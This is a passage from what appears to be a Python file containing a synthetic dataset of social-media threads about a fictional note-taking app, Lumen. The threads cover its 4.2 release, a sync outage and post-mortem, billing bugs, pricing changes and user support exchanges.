>> anon@10m: The questions note is a great idea.
> aisha@2h: Whatever you pick, keep it boring. Fancy systems die in week 9.
>> anon@30m: Week 9 is next week 😅

=== m at=18T13:30
eli: Read the @LUMEN post-mortem. The key line: "the status page checked the same proxy". Everyone should audit what their status page actually depends on. https://lumennotes.example/blog/nov-17-sync-incident
> kenji@25m: We found exactly this in a game day last year. Status checks that share the blast radius are decoration.
>> eli@15m: "Decoration" is going in my slides, with credit.
> anon@1h: Also nice that they admitted the bundled change slowed down the rollback. That's usually the part that gets left out.
> anon2@3h: Good write-up. Still think 70 minutes without the web app is rough for a paid product, but the transparency counts.

=== m d=11-22
ivy: Quick poll for the design folks who use @LUMEN: the new editor font, yay or nay? I like it for reading, not sure about writing.
> anon@30m: Yay for headings, nay for body text. Switched body back to Classic.
> anon2@1h: Yay. The old one had weird kerning on "rn".
>> ivy@20m: The "rn" → "m" thing! I thought it was just me.

=== m d=11-20
anon: Is it just me or does @LUMEN 4.2 on iPad forget which notebook I had open every time I switch apps? Annoying when I'm copying from a PDF.
> anon2@2h: Not just you. For me it happens when Low Power Mode is on.
>> anon@30m: Low Power Mode is on, yes. Interesting.
> anon3@4h: +1, iPad Air, same thing.

=== m
anon{de}: Kann man bei @LUMEN eigentlich Notizen als PDF exportieren, ohne dass die Formatierung kaputtgeht? Tabellen werden bei mir immer abgeschnitten.
> felix{de}@1h: Bei mir klappt es mit „Querformat“ in den Druckeinstellungen. Breite Tabellen passen sonst einfach nicht auf die Seite.
>> anon{de}@30m: Da hätte ich auch selbst draufkommen können. Danke!

%% ======================================================================
%% BLUESKY
%% ======================================================================

=== b at=10T15:35
us: Lumen 4.2 is here ✨ New editor, Canvas boards, Android widgets, and a compare view for conflict copies. Changelog: https://lumennotes.example/changelog/4-2
> jordan@30m: Canvas is a big one. Already planning a video on it.
>> us@1h: Let us know if you want early access to 4.3 for that!
> hannah@1h: does Canvas work on the free plan?
>> us@20m: Yes! Free gets 3 boards, Pro is unlimited.
>>> hannah@5m: oh nice, thanks!
> anon@2h: widgets widgets widgets 🙌
> ivy@3h: The new editor spacing is *chef's kiss*. Whoever tuned the line height, thank you.

=== b at=11T18:20
marcus: @LUMEN you charged me twice for Pro this month. Opened a ticket 3 days ago, no answer. If this isn't fixed by Friday I'm doing a chargeback.
> us@35m: Marcus, sorry about this. Could you DM us the email on your account? We'll look at it right away.
>> marcus@20m: DM'd.
>>> anon@2h: same thing happened to me in october. took a week but they did refund it

=== b at=12T10:40
anon: @LUMEN I was charged twice this month too, same as a few people here. Is something going on with billing?
> us@1h: Yes, sorry: a payment retry bug charged some renewals twice between Nov 9 and 11. It's fixed, and we're refunding every duplicate over the next few days. No action needed on your side.
>> anon@30m: ok good, thanks for being upfront

=== b dm=21 at=17T15:02
dana: Hi, Dana Whitfield from Circuit Weekly. I'm writing a short piece on today's Lumen sync outage. Can you confirm the start time, how many users were affected, and whether any data was lost? My deadline is 6pm ET.
> us@25m: Hi Dana, thanks for reaching out. Sync and web were unavailable from ~14:05 UTC and restored by 15:20 UTC (APAC by ~15:40). No data was lost; local copies were unaffected. I'll get you a statement from our CTO within the hour. Press contact: press@lumennotes.example. — Sam
>> dana@10m: Thanks. Can you give a rough % of users affected?
>>> us@40m: Roughly 60% of active users saw errors during that window. Statement from Ana Ruiz, CTO: "A configuration change to our database proxy caused the outage. We rolled it back and will publish a full post-mortem tomorrow."
>>>> dana@5m: Perfect, thank you. I'll link the post-mortem when it's up.

=== b at=17T21:30
dana: Note-taking app Lumen had a ~70 minute sync outage today. No data lost, and they were unusually open about it. My piece: https://circuitweekly.example/2026/11/lumen-sync-outage @LUMEN
> anon@10m: "unusually open" is a low bar in this industry but good for them
> anon2@30m: was wondering why my notes weren't syncing at work, thanks
> us@1h: Thanks for the fair write-up, Dana.

=== b dm=22 at=16T19:22
us: Hi Tomás, Sam from Lumen following up on your post. Happy to give you a comment on the pricing change. What's your deadline?
> tomas@30m: Thanks Sam. Tomorrow noon ET. Main questions: how many Pro subscribers are affected, and did you consider keeping $5 for existing users permanently?
>> us@2h: We don't share exact subscriber numbers, but every existing Pro subscriber keeps their current price for at least 12 months. We did consider permanent grandfathering; we went with 12 months so that eventually everyone pays the same for the same thing. Annual pricing is unchanged at $60.
>>> tomas@15m: Got it, that works. Thanks for the fast turnaround.

=== b at=17T23:10
tomas: Four note apps raised prices this quarter. Lumen's version (12 months of grandfathering, annual unchanged) is the least painful of the bunch. Roundup: https://byteledger.example/2026/11/note-app-prices @LUMEN
> anon@40m: Stackpad doubling the team plan is wild by comparison
> jordan@2h: Good roundup. The "what you actually get per dollar" table is useful.

=== b
hannah: how do I get @LUMEN to stop capitalising the first letter of every line?? I'm taking chemistry notes and it keeps turning pH into PH 😭
> anon@15m: Settings → Editor → Auto-capitalise, turn it off
>> hannah@4m: omg thank you

=== b d=11-22
grace: My 7th graders used @LUMEN Canvas to plan their science fair projects today and they were SO into it. One of them drew arrows between every card "because it's a food web". Love this.
> anon@3h: Teacher here too, how do you handle accounts for kids under 13?
>> grace@30m: Classroom accounts through the school! No personal emails needed.

=== b
jordan: Dear @LUMEN, please give us a way to publish a notebook as a simple website. I'd use it for all my show notes. Half my audience asks for this.
> anon@20m: +1000, I copy notes into a blog every week
> anon2@40m: "publish to web" would make Lumen the perfect digital garden app
> us@3h: Hearing this loud and clear. Publishing is the most requested feature after daily notes. It's in design now; we want it private by default and easy to unpublish.
>> jordan@20m: Private by default is the right call. Let me know when there's a beta!

=== b d=11-22
rafael[pt]: Alguém mais usa o @LUMEN pra estudar pra concurso? Tô montando um quadro no Canvas com todas as matérias e tá ficando lindo.
> anon{pt}@30m: Uso sim! Faço um caderno por matéria e revisão espaçada com as tags.
>> rafael{pt}@20m: Boa ideia, vou copiar kkkk

=== b
lucia[es]: ¿Alguien sabe si @LUMEN tiene la interfaz en español? No encuentro la opción en los ajustes.
> anon{es}@25m: Está en Ajustes → General → Idioma, pero solo en la app de escritorio. En el móvil usa el idioma del sistema.
>> lucia{es}@10m: ¡Gracias! Ya lo encontré.
> us{es}@2h: ¡Hola, Lucía! Sí, la app está disponible en español. En el móvil se cambia desde el idioma del sistema. ¡Gracias por usar Lumen!

=== b
lucia: @LUMEN small translation bug in the Spanish version: "Save as template" shows up as "Salvar como plantilla" instead of "Guardar como plantilla". Nothing serious, just looks odd.
> us@3h: ¡Gracias, Lucía! Fixed for the next release. Would you be interested in our volunteer translator program? We could use a careful eye like yours.
>> lucia@1h: Claro, send me the details!

=== b d=11-22
camille[fr]: La nouvelle version de @LUMEN a enfin réglé mon problème de synchro entre l'iPhone et le Mac. Merci !

=== b at=17T16:05
kenji: Good incident comms from @LUMEN today: status update within 15 min, an honest "we don't have an ETA", regular updates. The lagging status page is the lesson. Looking forward to the post-mortem.
> anon@20m: the bar is on the floor and they stepped over it
> us@1h: Thank you Kenji. The status page gets its own section in the post-mortem, it deserves one.

=== b d=11-22
lena: Tried the @LUMEN Android widget and honestly it's the first notes widget that looks good on my home screen. Minimal and readable.

=== b d=12-22
maria: Hot take: the compare view for conflict copies is the most underrated feature of @LUMEN 4.2. Saved me twice this week already.
> anon@1h: wait there's a compare view??
>> maria@10m: Right click the conflict copy → Compare versions. Side-by-side diff.
>>> anon@5m: game changer

=== b d=11-22
ivy: Sketching early ideas in @LUMEN Canvas instead of a whiteboard tool lately. Fewer features = less fiddling, more thinking.
> anon@1h: do you export the boards to share them?
>> ivy@20m: PNG export, works fine for sharing in reviews.

=== b d=10-19
anon: @LUMEN sharing a web page from Safari to Lumen crashes the share sheet every time since 4.2. iPhone 15, iOS 27.1. Safari → Share → Lumen → crash before the note preview shows up.
> anon2@40m: Same. Works with screenshots but not links.
> us@2h: Thanks for the steps, we can reproduce it: the share extension runs out of memory on pages with huge preview images. Fix is in 4.2.1 (in review with Apple). Workaround: copy the link and use "New note from clipboard".
>> anon@15m: workaround works, thanks

=== b
hannah: is there a way to share a notebook with my study group without everyone paying for pro? @LUMEN
> anon2@40m: shared notebooks work on free for up to 3 people. more than that and one person needs pro
>> hannah@10m: we're 4 😅 guess someone's paying
>>> anon@15m: not it

=== b d=11-22
anon: the Lumen Android app is so much worse than iOS it's not even funny. No tablet layout, scrolling stutters, widgets only just now. @LUMEN is Android a second-class citizen?
> anon2@30m: the stutter is real on my Pixel too
> us@3h: That's a fair hit. Android has been behind, and we hired two Android engineers this autumn specifically to close the gap. Tablet layout is the first thing they're shipping, early 2027. — Sam
>> anon@1h: ok, holding you to that

=== b
anon: love how @LUMEN asks me to rate the app right after it crashes. yes hello, I would like to leave a review, just not the one you want
> us@2h: Oof. That prompt should never show after a crash, it's supposed to wait for a good session. Looking into why it did. Sorry!

=== b
anon: what's everyone's @LUMEN setup? I'm at 6 notebooks and 40 tags and I think I've overdone it
> anon2@30m: 3 notebooks (work, personal, archive) and tags for everything else
> grace@1h: one notebook per class + one called "teacher brain"
> jordan@2h: I made a whole video about this lol. TL;DR: fewer notebooks, more links.
>> anon@10m: link??
>>> jordan@15m: https://video.example/@jordanellis/lumen-setup-2026

=== b d=13-20
anon: @LUMEN your "Assist" thing summarised a confidential client note without me turning it on. If my client data went to some AI server I'm talking to a lawyer. This could be a lawsuit for me.
> us@20m: We take this very seriously. Assist can't run unless it's enabled for that notebook, but we'd rather verify than just say so. Please DM us your account email and we'll go through the audit log for that notebook together.
>> anon@1h: DM sent.
>>> anon@3h: Update for anyone following: a colleague had enabled it on a shared notebook. My bad for not knowing shared settings apply to everyone. They showed me the log. Still think the UI should make that clearer.
>>>> us@30m: Agreed, and thanks for posting the update. We're adding a banner to shared notebooks that shows who turned Assist on and when.

=== b d=13-21
anon: Lumen Assist summarised a 2-hour meeting transcript into 8 bullet points and didn't make up a single thing. Cautiously impressed. @LUMEN

=== b dm=23 d=9-19
anon: hey, didn't want to post this publicly since it has client names, but search is returning notes from a notebook I deleted last month. is that expected? I have screenshots if you want them
> us@1h: Thanks for keeping it private! It's not expected. Deleted notebooks sit in Trash for 30 days and shouldn't show up in search. Does adding -in:trash to the search hide them?
>> anon@20m: yes, with -in:trash they disappear
>>> us@40m: Got it, that's a bug: search should exclude Trash by default. Fixed for 4.2.1. Thanks for reporting it!

=== b d=17-21
anon: Cancelled my @LUMEN Pro today. Not because of the price change, because sync broke in the middle of my exam week. The price thing just made it easy.

=== b d=13-15
us: Question for you all: notebooks or tags? We're redesigning the sidebar and want to know how you actually organise. Reply with your setup, we read everything 👀
> anon@15m: tags. notebooks are for people who like folders
> anon2@30m: notebooks for areas, tags for status
> maria@1h: Notebooks for projects, tags for people, links for everything else.
> grace@2h: Notebooks! My brain is a filing cabinet.
> anon3@3h: neither, I search. please don't break search
>> us@1h: Search is sacred, promise.

=== b at=18T12:00
us: Post-mortem for yesterday's sync outage: what broke, why the status page stayed green, and what we're changing. Pro subscribers get a free week, applied automatically. https://lumennotes.example/blog/nov-17-sync-incident
> anon@30m: appreciate the free week, didn't expect it
> kenji@1h: "The status page monitored the thing that broke" is a lesson everyone learns exactly once. Great write-up.
> anon2@2h: would be nice if the app itself showed a banner during incidents, I only found out from reddit
>> us@1h: Agreed, and it's in the "what we're changing" section: an in-app incident banner, shipping in 4.2.1.

=== b at=20T14:05
us: Lumen 4.2.1 is rolling out: your "Archive (migrated)" notebooks go back where they belong, Android widgets survive reboots, and the iOS share sheet crash is fixed. https://lumennotes.example/changelog/4-2-1
> anon@40m: share sheet works again!! thank you
> hannah@2h: pH stays pH 🧪 thank you
> anon2@3h: still no vim mode 😤
>> kenji@1h: they said it's climbing the list. patience

=== b at=8T19:40
anon: day 40 of journaling in @LUMEN and I still haven't missed a day. the streak counter is evil and I love it

=== b at=17T14:15 fast
anon: is @LUMEN down or is it my wifi
> anon2@4m: it's down, not you
>> anon@2m: phew (not phew)

=== b
anon: @LUMEN please add a way to lock a note with a PIN, my little brother keeps reading my stuff on the family iPad 😤
> anon2@1h: they said note locking comes with the "vault" notebooks next year. until then: a passcode on your own profile 🙃

=== b
grace: Another @LUMEN classroom win: my students built a shared glossary notebook for the whole unit. 140 entries in two weeks.

=== b d=13-21
anon: Lumen Assist: cool. Lumen Assist summarising my grocery list as "The user intends to purchase dairy products": less cool @LUMEN
> us@2h: Ha, fair. It shouldn't offer summaries on notes that short. Tuning that.

=== b d=11-21
ivy: @LUMEN tiny bug: the tooltip on the Canvas zoom button says "Zoom ouy"
> us@3h: An immortal typo. Fixed, thanks Ivy 😄

=== b
anon: moved my whole team to @LUMEN shared notebooks and the "where is that doc" messages in our chat dropped by like 80%

=== b
anon: anyone have a good @LUMEN template for weekly reviews? mine is getting stale
> anon2@30m: wins / lessons / next week's 3 things. that's it
> jordan@2h: I have one in my video description, free to copy

=== b
anon: @LUMEN sync has been stuck on "syncing 1 item" for two days. WHICH item?? Tell me which item.
> anon2@1h: Help → Sync status shows the pending item. for me it was an attachment over the size limit
>> anon@30m: it was a 250 MB video. thanks

=== b d=11-22
lucia[es]: Llevo un mes usando @LUMEN para mis clases de la universidad y me encanta. Los tableros son perfectos para preparar exámenes.

=== b d=16-21
rafael[pt]: @LUMEN vocês pretendem lançar um plano mais barato pro Brasil? R$ 40 por mês pesa bastante por aqui.
> us{pt}@3h: Oi, Rafael! Sim, estamos trabalhando em preços regionais para 2027, incluindo o Brasil. Vamos avisar por aqui.
>> rafael{pt}@1h: Boa! Valeu pela resposta.

=== b at=22T12:30
anon: the Lumen web app on Firefox logs me out every single day. any fix? @LUMEN
> anon2@20m: do you have "delete cookies when closed" on? add an exception for the web app
>> anon@15m: that was it 🤦

=== b
kenji: Feature request for @LUMEN: vim mode. I'll even write the keymap.

=== b
jordan: New video: "I moved 3,000 notes into Lumen, here's what broke". Spoiler: not much. Tables from Stackpad were the only casualty. @LUMEN
> anon@1h: the section on tags vs links was really helpful

=== b
maria: Is there a way to pin a note to the top of a notebook? @LUMEN
> anon@30m: right-click → Pin. pinned notes stay on top whatever the sort order
>> maria@10m: Found it, thanks!

=== b
anon: @LUMEN grad student here, any plans for a citation manager integration? Zotero-style. I'd pay for Pro just for that.
> anon2@1h: please yes. my thesis notes are a mess of pasted references
=== b d=11-22
hannah: finals prep with @LUMEN canvas: one board per subject, cards = topics, red/yellow/green for how ready I am. currently looking at a lot of red
> anon@20m: this is such a good idea, stealing it
> anon2@40m: the red cards will turn green, believe in yourself 💪
>> hannah@10m: thank you internet stranger 🥲
> grace@2h: Teacher here: this is exactly what good studying looks like. Proud of you, stranger.

=== b
jordan: Been asked 50 times: "Lumen or Notewell?" My answer: Lumen if you think in notes and links, Notewell if you think in databases. Both are fine. Stop switching apps and start writing. @LUMEN
> anon@15m: "stop switching apps" is a personal attack
> anon2@30m: I think in chaos, which one is for me
>> jordan@10m: paper
> anon3@1h: Notewell's mobile app is so much slower though, that decided it for me
>> anon4@30m: same, and offline actually works in Lumen
> ivy@2h: Lumen's design is also just calmer. That matters more than people admit.

=== b d=13-16
dana: Question for @LUMEN users: did you turn on the new Assist AI feature? Why or why not? Writing about opt-in AI in productivity apps. Replies may be quoted (I'll ask first).
> anon@20m: On for work notes, off for my journal. The per-notebook toggle is the only reason I tried it.
> anon2@35m: Off. Nothing against Lumen specifically, I just don't want AI near my notes.
> maria@1h: On for one notebook. "Find related" is genuinely useful, summaries less so.
> anon3@2h: On-device mode on my Mac. As long as it stays on-device I'm fine with it.
>> dana@30m: Thanks, that's helpful. Would you be ok with being quoted by first name?
>>> anon3@20m: Sure, go ahead.
> anon4@3h: turned it on, it summarised my shopping list, turned it off 😂

=== b at=17T14:25 fast
anon: @LUMEN is sync down? web app won't load and I have a meeting in 10 minutes 😬
> anon2@3m: down for me too
> anon3@5m: same. the desktop app still works offline if you have it
>> anon@2m: ok desktop works, crisis averted. mostly
> us@12m: Yes, sorry, we're on it. Local notes are safe and will sync once we're back. Updates: https://status.lumennotes.example

=== b
grace: Teachers who use @LUMEN with students: how do you handle late work? Thinking about a shared "submissions" notebook but not sure it scales to 5 classes.
> anon@40m: one shared notebook per class, one note per assignment, students add their work as linked notes. works for my 3 classes
> anon2@1h: I tried one notebook for everything and regretted it by October
>> grace@15m: Noted, one per class it is
> anon@20m: also: lock finished assignments. classroom accounts can lock notes

=== b
anon{es}: ¿Alguien usa @LUMEN para escribir la tesis? Estoy dudando entre esto y un procesador de texto de toda la vida.
> lucia{es}@30m: Yo tomo todas las notas en Lumen y luego escribo el texto final en otro programa. Para organizar ideas es buenísimo.
>> anon{es}@15m: Tiene sentido. ¿Y las citas cómo las manejas?
>>> lucia{es}@20m: Con un gestor de referencias aparte, por ahora. Ojalá lo integren algún día.

=== b
anon: me: I will keep my notes minimal this year. my @LUMEN account: 11,000 notes, 212 tags, one of them called "misc2"
> anon2@30m: misc2 implies the existence of misc
>> anon@10m: misc is full
> anon3@1h: "misc2" is my entire personality

=== b
camille: Fellow journalists: anyone using @LUMEN for interview notes? How do you deal with recordings? Attachments, links, separate app?
> dana@1h: Separate app for recordings, Lumen for notes, with a link to the recording at the top of each note. Keeps the notes light.
>> camille@20m: That's what I was leaning towards. Thanks Dana!
> anon@2h: I attach short clips only (under 50 MB). Anything longer goes to cloud storage.

=== b
anon: does @LUMEN have an Apple Watch app? want to dictate quick notes on runs
> anon2@1h: no watch app afaik. I use a shortcut that sends dictation to the email-in address
>> anon@20m: oh clever, trying that

%% ======================================================================
%% REDDIT (r/LumenNotes)
%% ======================================================================

=== r at=10T15:40
us: Lumen 4.2 is out: new editor, Canvas boards, Android widgets, compare view\n\nHi r/LumenNotes! 4.2 is rolling out on all platforms today. Highlights:\n\n- New editor, rewritten from scratch: real tables, much faster on large notes\n- Canvas boards: freeform boards you can drag notes onto\n- Android home screen widgets\n- Compare versions for conflict copies\n\nFull changelog: https://lumennotes.example/changelog/4-2\n\nWe'll be in the comments all afternoon. Tell us what breaks. — Sam, Priya and Mei
> pete@10m: Finally tables! Do custom CSS snippets still work with the new editor?
>> us@25m: Most of them, but the editor's class names changed. There's a migration note at the bottom of the changelog with old → new names.
>>> pete@15m: Found it, updated my snippets in 5 minutes. Thanks.
> nightowl@40m: Canvas is great, but please let me set a default zoom level. It always opens zoomed way out.
>> us@1h: Noted! It's supposed to remember your last zoom per board, so that's a bug, not a design decision.
> ben@1h: Any performance numbers for the new editor? The old one got sluggish around 20k words.
>> us@30m: Our benchmark note is 100k words: typing latency went from ~45 ms to under 8 ms on a mid-range laptop.
>>> ben@2h: Can confirm it's dramatically faster on my big notes. Nice work.
> anon@3h: Mobile update isn't showing in the Play Store yet?
>> quietkeys@20m: Staged rollout, it usually takes a day or two to reach everyone.

=== r at=18T12:10
us: Post-mortem: Nov 17 sync outage (14:05–15:40 UTC)\n\nHi all, as promised. Full write-up: https://lumennotes.example/blog/nov-17-sync-incident\n\nShort version:\n\n- A config change to our database proxy capped connections far too low. Sync and web requests queued up and timed out.\n- The rollback took longer than it should have because the change was bundled with an unrelated one.\n- The status page checked the same proxy, so it kept reporting "operational".\n- No data was lost. Some of you got conflict copies; nothing was deleted.\n\nWhat we're changing: config changes roll out region by region, the status page gets independent probes, and the apps will show an in-app incident banner.\n\nEvery Pro subscription has been extended by one week. Thanks for your patience in the megathread yesterday. — Sam
> aisha@40m: This is a good post-mortem. Clear, no weasel words. Thanks.
> syncwoes@1h: Appreciate it. Per-region rollout should have been there from the start, but glad it's there now.
>> us@40m: No argument from us there.
> quietkeys@2h: The in-app banner is the best part. Half the megathread was people who thought their own setup was broken.
> anon@3h: Free week showed up on my account 👍
> theo@5h: Was the "unrelated change" also what broke the Android widgets, or is that separate?
>> us@1h: Separate. The widget bug is client-side and fixed in 4.2.1, which is coming this week.

=== r at=20T14:10
us: Lumen 4.2.1: restores "Archive (migrated)" notebooks, fixes widgets, code paste freeze and share sheet crash\n\nChangelog: https://lumennotes.example/changelog/4-2-1\n\nIf 4.2.0 moved your nested notebooks into "Archive (migrated)", 4.2.1 moves them back on first launch. Please let it finish syncing before you reorganise anything. If something doesn't come back the way you expect, comment here or email support and we'll sort it out with you individually.
> anon@1h: Everything went back to where it was. Thank you.
> nightowl@2h: Mine came back, but the sub-notebooks are sorted alphabetically now instead of my manual order. Minor, but fyi.
>> us@45m: Thanks, we know about this one: manual order wasn't stored in the migration snapshot. Fix is coming in 4.2.2. Sorry you have to re-drag them for now.
> pete@3h: Code block paste is instant now 👏

=== r
anon: How do you all use templates? Feels like I'm missing something\n\nI made a meeting template, but every time I have to click New → From template → scroll. Is there a faster way?
> pete@30m: Give it a shortcut: Settings → Templates → click the template → "Keyboard shortcut". I have Ctrl+Alt+M for meetings.
>> op@15m: Wait what. This changes everything.
> quietkeys@1h: You can also put {{date}} and {{cursor}} in the template. The cursor lands wherever you put it.
>> anon2@30m: Is there a list of all the template variables?
>>> quietkeys@10m: https://lumennotes.example/help/templates, bottom of the page.

=== r d=10-18
anon: [Bug] Checkbox state resets after syncing between iPhone and Windows\n\nSteps:\n\n1. Create a checklist on Windows (4.2.0)\n2. Tick 3 items on iPhone (4.2.0, iOS 27.1)\n3. Open the note on Windows after sync\n\nExpected: 3 items ticked. Actual: 1 or 2 ticked, random which ones. Happens every time for me with lists longer than ~10 items.
> nightowl@2h: Can reproduce with 15 items. Shorter lists seem fine.
> us@5h: Thank you for the clean repro, it helped a lot. Each tick was sent as a separate edit and on long lists some arrived out of order. Fixed for 4.2.1. — Priya
>> op@1h: Awesome, thanks for the quick turnaround.

=== r at=9T14:00
us: Monthly feature request thread (November)\n\nOne top-level comment per request, and upvote the ones you want. We read all of them and tag the ones that make it onto the roadmap. Last month's top 3 (daily notes, publish to web, PDF search) are all in progress.
> pete@1h: Daily notes with a configurable template. Yes, I know it's in progress, I'm upvoting it anyway.
> nightowl@2h: Vim keybindings in the editor. Even a basic mode would do.
>> ben@1h: Seconding. hjkl, dd and visual mode would cover 90% of it.
>>> us@3h: Vim mode is surprisingly high on the list. Tagged.
> anon@3h: Per-notebook colours so I can tell work and personal apart at a glance.
> aisha@4h: Word count goals per note, with a little progress ring. For writers this would be everything.
>> anon2@1h: Yes! And a total for the notebook.
> theo@5h: Let us set the default notebook for quick capture on mobile. It always goes to Inbox.
>> quietkeys@30m: You can, actually: long-press the + button → "Default notebook". Took me a year to find it.
>>> theo@10m: I... thank you. Withdrawn.
> anon3@6h: Zotero-style integration for citations please. Grad students would riot with joy.

=== r d=19
anon: Honest question: is Pro still worth it after the price increase?\n\nI use sync and the web app, that's it. $7/month feels like a lot for that when Notewell's sync is $4. Not trolling, genuinely deciding whether to renew in January.
> quietkeys@40m: If you only use sync, annual at $60 is $5/month, same as now. Monthly is what went up.
>> op@20m: Hm, didn't realise annual stayed the same. That changes the math.
> anon2@1h: Notewell sync is $4 but they cap attachments at 1 GB total. Depends what you store.
> us@5h: Not going to tell you what to do, but the honest summary: annual is unchanged, monthly went up, and existing subscribers keep their price for 12 months. If you mainly need sync between two devices, the free plan does that too.
>> op@1h: Thanks, that's a more useful answer than I expected from a company account.

=== r d=10-15
anon: AppImage 4.2.0 won't start on Debian 12: "version `GLIBC_2.38' not found"\n\nWorked fine on 4.1.3. Anyone else? I'd rather not upgrade the whole distro for a notes app.
> anon2@1h: 4.2 bumped the build base. Workaround: the 4.1.3 AppImage from the releases page still works and syncs fine with 4.2 clients.
> us@4h: Sorry about that. We moved our build machines to a newer base without meaning to drop Debian 12. We'll publish a compatible build this week, and the Flatpak (coming soon) avoids this entirely.
>> op@2h: Thanks, I'll stick with 4.1.3 until then.

=== r
aisha: Small appreciation post: Lumen support sorted out my (very stressed) data issue on a Sunday\n\nI know this sub is mostly bug reports, which makes sense, but I wanted to say it: I messaged support on Sunday night thinking I'd lost a chapter. Priya replied within 40 minutes, found it in the version history and walked me through restoring it. Thank you.
> quietkeys@1h: Priya is a legend in this sub.
> anon@5h: Wait, there's version history? Where?
>> aisha@30m: Right-click a note → Version history. Pro keeps a year of it.

=== r d=12-21
anon: What's your backup strategy for Lumen?\n\nAfter the 4.2 migration thing I'm paranoid. Do you export regularly? Automate it?
> quietkeys@30m: Settings → Backups → daily local snapshot, keep 30. Plus a weekly Markdown export to my NAS with a scheduled task.
> pete@1h: The desktop app has a CLI flag: lumen --export-markdown <folder>. Cron it.
>> op@20m: Didn't know about the CLI. Is that documented?
>>> pete@25m: It is, just hidden: https://lumennotes.example/help/export#cli
> ben@3h: I just include the whole data folder in my normal backups. It's SQLite plus attachments, restores fine.

=== r
nightowl: Me: I'll organise my notes this weekend. Also me: creates a notebook called "Organise notes" containing one note called "TODO organise"\n\nanyone else
> anon@20m: I have a tag called #someday with 400 notes. It's fine. Everything is fine.
> pete@1h: The real organisation was the notes we made along the way.


=== r d=11-19
pete: Canvas tip thread: share your best boards\n\nI'll start: one board per project, with columns for Now / Next / Later and notes dragged in as cards. Way better than a kanban app because the cards ARE my notes.
> anon@1h: Writer here: one board per book. Characters on the left, plot beats in the middle, research on the right.
>> aisha@2h: That's basically my setup! Connectors between characters and the scenes they appear in.
> anon2@2h: One board per exam. Each card is a topic, colour = how confident I am.
> ben@3h: Architecture diagrams. Not as nice as a real diagram tool, but having the notes linked is worth it.
>> pete@1h: Do you use connectors for that? I find them messy.
>>> ben@40m: Yeah, they're messy. Someone on Mastodon asked for edge snapping, that'd fix it.

=== r d=12-15
anon: Cancelled Pro, still got charged. Support hasn't answered in 5 days.\n\nI cancelled on Nov 3 and got charged on Nov 10. I have the cancellation confirmation email. Thinking about just doing a chargeback at this point.
> quietkeys@30m: If you subscribed through the App Store, Apple bills you, not Lumen. Check Settings → your name → Subscriptions on the iPhone. Lumen can't refund App Store charges directly.
>> op@25m: ...I think it was through the App Store originally. But the cancellation email is from Lumen?
>>> quietkeys@10m: If you cancelled on the website, that cancels the web subscription, not the App Store one. You may have had both.
> us@2h: Hi, Priya from support. Sorry for the slow reply, we're catching up on a backlog from the 4.2 release. If you DM me the email on your account, I'll check whether you have two subscriptions and refund ours if so.
>> op@1h: DM sent. Thanks.
>>> us@2h: Found it: you had both. I've refunded and cancelled ours, and the App Store one is set to cancel too. Sorry for the mess.

=== r
anon: Is Lumen end-to-end encrypted?\n\nThe website says "encrypted" but not E2E. Deciding whether to keep therapy notes in it.
> quietkeys@1h: Not E2E. Encrypted in transit and at rest, but they can technically read it. E2E vaults are announced for 2027.
> anon2@2h: For therapy notes I'd use a local-only notebook. On desktop you can mark a notebook as "Don't sync".
>> op@30m: Didn't know about local-only notebooks. That might be the answer.
> us@4h: Both answers are correct. For something that sensitive, a local-only notebook is the safest option today. E2E "vault" notebooks are in development, and we'll post here when the beta opens.

=== r d=15-18
ben: Used Lumen Assist for a few days of standups. Thoughts.\n\nGood: summaries are accurate, and the action item extraction is genuinely useful.\n\nBad: "tidy up" wants to merge notes that share a title prefix. Slow-ish on a big notebook (10k notes).\n\nUgly: the sparkle icon. Why is every AI feature a sparkle.
> anon@1h: lmao the sparkle thing
> nightowl@2h: Does it work offline?
>> ben@30m: On-device mode does, on Mac. Cloud mode obviously not.
> us@4h: Thanks for the write-up. Tidy-up on title prefixes is a known problem and we're tuning it. And you're not the first to hate the sparkle; the designer said "noted" in a tone I can't describe.


=== r d=11-22
anon: Switching from Stackpad, what am I going to miss?\n\nHeavy user of Stackpad databases. Considering Lumen because Stackpad is so slow these days. What will I miss?
> pete@1h: Databases. Lumen doesn't do them and probably won't. The 4.2 tables are simple tables, not databases.
> quietkeys@2h: You'll gain speed and offline. You'll lose databases, and the web clipper is simpler. Depends what you live in.
> anon2@3h: I switched a year ago. Missed databases for a month, then stopped missing them.
>> op@1h: That's encouraging. Going to try the import this weekend.
>>> anon2@20m: Import your smallest workspace first. Relations between pages turn into links, which is fine, but check it.

=== r d=20-22
theo: 4.2.1 fixed the widget and now it's my favourite feature\n\nQuick capture widget on my home screen → note goes into Inbox → I sort it on desktop in the evening. Finally an inbox workflow that sticks.
> anon@2h: Which widget size do you use?
>> theo@1h: The 4x2 one with the capture button and the last 3 notes.

=== r at=22T15:41
anon: Does the web clipper work in Firefox on Android?

=== r
anon: Dark mode for the web app?\n\nIs there a way to make the web app dark without a browser extension?
> quietkeys@25m: Settings → Appearance applies to the web app too once you're logged in. It syncs across devices.

=== r
anon: Finally finished migrating 6 years of notes\n\n4,300 notes, 9 GB of attachments. The import took 40 minutes. A handful of tables came over as plain text, everything else perfect.
> pete@1h: Congrats! What did you migrate from?
>> op@30m: Notewell. Never going back.

=== r d=19
margin: Reminder: please don't post full sync logs publicly\n\nThey can contain note titles and your email address. Send them to support or DM the team account instead. Thanks!



=== r
anon: Search ignores accents? "café" doesn't find "cafe" and vice versa\n\nI write in French and English, and searching without accents finds nothing. Is there a setting for accent-insensitive search?
> anon2@2h: Not that I know of. Annoying in Portuguese too, "informação" vs "informacao".
> anon3{fr}@3h: Pareil pour moi : « élève » ne trouve pas « eleve ». Très pénible pour mes notes de cours.
> us@6h: Not currently, but it should. Accent-insensitive search comes with the new search index (the same work as PDF search). I'll update this thread when it's in beta.

=== r d=20-22
syncwoes: PSA: after the outage, check your notebooks for conflict copies\n\nI found 4 "(conflict copy 2026-11-17)" notes today, days later. Search for "conflict copy" to find them all at once. Nothing was lost, but my notebooks were cluttered.
> quietkeys@1h: Good tip. 4.2.1 also has a "Resolve all conflicts" view under Help.
"""

if __name__ == "__main__":
    main()
